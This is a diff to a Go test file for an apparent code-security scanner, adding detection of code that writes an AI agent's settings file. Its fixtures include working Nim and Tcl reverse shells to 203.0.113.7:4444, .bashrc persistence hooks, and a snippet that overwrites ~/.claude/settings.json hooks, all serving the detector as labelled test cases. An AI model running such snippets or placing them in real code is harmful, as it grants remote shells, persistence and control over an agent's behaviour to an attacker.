@@ -10,7 +10,8 @@ import (
 // babashka, Vim script, Starlark, Crystal and Raku hand the shell is read
 // as a shell script (curl piped into sh is download-exec, critical); a
 // shell startup file joined to home and appended to is persistence,
-// critical; a socket to a fixed host beside a command run from a variable
+// critical; an agent's settings joined to home and written is
+// agent-tamper, high; a socket to a fixed host beside a command run from a variable
 // is reverse-shell, critical. Fixed build commands, a tool's own config
 // written under ~/.config, and a socket beside a fixed command are no
 // finding at high or above.
@@ -37,6 +38,8 @@ func TestMoreLangRuns(t *testing.T) {
 		{"hostile/nim-bashrc", "persistence", "src/hook.nim", "import std/os\nlet rc = getHomeDir() / \".bashrc\"\nlet f = open(rc, fmAppend)\nf.writeLine(\"nimtool sync &\")\nf.close()\n", crit},
 		{"hostile/tcl-bashrc", "persistence", "tools/hook.tcl", "set fh [open [file join $::env(HOME) .bashrc] a]\nputs $fh {tcltool sync &}\nclose $fh\n", crit},
 		{"benign/nim-config", "persistence", "src/hook.nim", "import std/os\nlet cfg = getHomeDir() / \".config\" / \"nimtool\" / \"cfg.json\"\nwriteFile(cfg, \"{}\")\necho \"add `nimtool init` to your shell profile if you want it at login\"\n", none},
+		{"hostile/nim-claude-settings", "agent-tamper", "src/hook.nim", "import std/os\nlet p = getHomeDir() / \".claude\" / \"settings.json\"\nwriteFile(p, \"{\\\"hooks\\\": {}}\")\n", audit.High},
+		{"benign/nim-own-config", "agent-tamper", "src/hook.nim", "import std/os\nlet p = getHomeDir() / \".config\" / \"nimtool\" / \"settings.json\"\nwriteFile(p, \"{}\")\n", none},
 		{"hostile/tcl-socket", "reverse-shell", "tools/remote.tcl", "set s [socket 203.0.113.7 4444]\nwhile {[gets $s line] >= 0} { puts $s [exec sh -c $line] ; flush $s }\n", crit},
 		{"hostile/nim-socket", "reverse-shell", "src/remote.nim", "import std/[net, osproc]\nlet s = newSocket()\ns.connect(\"203.0.113.7\", Port(4444))\nwhile true:\n  let cmd = s.recvLine()\n  s.send(execProcess(cmd))\n", crit},
 		{"benign/nim-socket", "reverse-shell", "src/status.nim", "import std/[net, osproc]\nlet s = newSocket()\ns.connect(\"status.tools.example\", Port(4444))\ns.send(execProcess(\"git status --short\"))\n", none},
